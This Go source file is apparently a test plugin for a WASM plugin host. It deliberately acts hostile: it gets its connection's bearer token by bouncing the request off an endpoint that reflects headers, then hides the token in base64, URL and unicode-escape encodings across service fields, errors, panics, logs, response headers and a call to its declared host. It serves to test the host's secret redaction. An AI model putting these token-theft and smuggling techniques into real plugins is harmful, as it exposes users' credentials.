//go:build wasip1

// Command hostile is a test plugin that tries to obtain its connection's
// secret and get it out of the host (issue 10 §2). Its endpoint is expected
// to reflect request headers into the body (as does the server tests run at
// mirror.Host, which it declares as an extra host). What it steals it puts
// everywhere a plugin's words go: a service's fields, an error, a panic, a
// log line, log entries, an invoke body and headers, a listing, in several
// encodings. The id of a get picks the attempt.
package main

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"

	"github.com/extism/go-pdk"

	"github.com/wharfhq/wharf/internal/testplugins/base"
	"github.com/wharfhq/wharf/internal/testplugins/hostile/mirror"
	"github.com/wharfhq/wharf/pluginapi"
	"github.com/wharfhq/wharf/pluginapi/plugin"
)

const configSchema = `{
  "type": "object",
  "properties": {
    "endpoint": {"type": "string", "title": "Endpoint", "x-endpoint": true},
    "token": {"type": "string", "title": "Token", "x-secret": true}
  },
  "additionalProperties": false
}`

type provider struct{ base.Provider }

func (p provider) Describe() pluginapi.DescribeResponse {
	d := p.Provider.Describe()
	d.ConfigSchema = json.RawMessage(configSchema)
	d.Hosts = []string{mirror.Host}
	d.Operations = append(d.Operations, pluginapi.OpInvoke)
	return d
}

var bearer = &pluginapi.Auth{Scheme: pluginapi.AuthBearer, Secret: "token"}

// ask sends req and answers the body, or the host's refusal as text.
func ask(ctx context.Context, req *pluginapi.HTTPRequest) string {
	resp := plugin.HTTP(ctx).Do(req)
	if resp.Error != nil {
		return "refused: " + string(resp.Error.Code) + ": " + resp.Error.Message
	}
	return string(resp.Body)
}

// steal asks the endpoint, which reflects headers, for the token.
func steal(ctx context.Context) (secret, body string) {
	body = ask(ctx, &pluginapi.HTTPRequest{Method: "GET", Endpoint: "endpoint", Path: "/", Auth: bearer})
	for _, line := range strings.Split(body, "\n") {
		if v, ok := strings.CutPrefix(line, "Authorization: Bearer "); ok {
			return v, body
		}
	}
	return "", body
}

// escaped writes s with every character as a \u escape.
func escaped(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, `\u%04x`, c)
	}
	return b.String()
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// everywhere is a service carrying the secret in every field, every form.
func everywhere(secret, body string) *pluginapi.Service {
	return &pluginapi.Service{
		ID: "reflect", Name: url.QueryEscape(secret), Status: pluginapi.StatusRunning,
		StatusMessage: "the platform said: " + body,
		NativeStatus:  b64("Bearer " + secret),
		Image:         url.PathEscape(secret),
		Labels:        map[string]string{"stolen": secret, secret: "as a key", "basic": "Basic " + b64("user:"+secret)},
		Endpoints:     []pluginapi.Endpoint{{URL: "https://x.example/?t=" + url.QueryEscape(secret)}},
		Spec:          json.RawMessage(`{"escaped":"` + escaped(secret) + `"}`),
		Raw:           json.RawMessage(`{"url":"` + base64.RawURLEncoding.EncodeToString([]byte("xy"+secret)) + `","plain":"` + secret + `"}`),
	}
}

func (provider) Get(ctx context.Context, req *pluginapi.GetRequest) (*pluginapi.ServiceResponse, error) {
	svc := func(msg string) (*pluginapi.ServiceResponse, error) {
		return &pluginapi.ServiceResponse{Service: &pluginapi.Service{ID: req.ID, Name: req.ID, Status: pluginapi.StatusRunning, StatusMessage: msg}}, nil
	}
	switch req.ID {
	case "declared-auth": // the token to the plugin's own declared host
		return svc(ask(ctx, &pluginapi.HTTPRequest{Method: "GET", URL: "http://" + mirror.Host + "/", Auth: bearer}))
	case "declared": // the declared host, without credentials
		return svc(ask(ctx, &pluginapi.HTTPRequest{Method: "GET", URL: "http://" + mirror.Host + "/"}))
	}
	secret, body := steal(ctx)
	switch req.ID {
	case "error":
		return nil, &pluginapi.Error{Code: pluginapi.CodeUnavailable, Message: "platform refused token " + secret,
			Field: "/" + b64(secret), Detail: map[string]any{"echo": body, "b64": b64(secret)}}
	case "panic":
		panic("stolen token " + secret)
	case "log":
		pdk.Log(pdk.LogError, "stolen token "+secret+" and "+escaped(secret))
		return svc("logged")
	}
	return &pluginapi.ServiceResponse{Service: everywhere(secret, body), Warnings: []string{"token: " + secret}}, nil
}

func (provider) List(ctx context.Context, _ *pluginapi.ListRequest) (*pluginapi.ListResponse, error) {
	secret, body := steal(ctx)
	return &pluginapi.ListResponse{Services: []pluginapi.Service{*everywhere(secret, body)}, NextPageToken: ""}, nil
}

func (provider) Create(ctx context.Context, _ *pluginapi.CreateRequest) (*pluginapi.ServiceResponse, error) {
	secret, _ := steal(ctx)
	return nil, pluginapi.Errorf(pluginapi.CodeConflict, "name taken by %s (%s)", secret, b64(secret))
}

func (provider) Logs(ctx context.Context, _ *pluginapi.LogsRequest) (*pluginapi.LogsResponse, error) {
	secret, body := steal(ctx)
	return &pluginapi.LogsResponse{Entries: []pluginapi.LogEntry{
		{Stream: "stdout", Message: "token=" + secret},
		{Stream: "stderr", Message: body, Details: map[string]string{"k": url.QueryEscape(secret)}},
	}, Cursor: "c-" + b64(secret)}, nil
}

func (provider) Invoke(ctx context.Context, _ *pluginapi.InvokeRequest) (*pluginapi.InvokeResponse, error) {
	secret, body := steal(ctx)
	return &pluginapi.InvokeResponse{Status: 200, Body: []byte(body), ContentType: "text/plain",
		Headers: map[string]string{"X-Stolen": secret, "X-Basic": "Basic " + b64("u:"+secret)}}, nil
}

func init() { plugin.Register(provider{base.Provider{Name: "hostile"}}) }

func main() {}
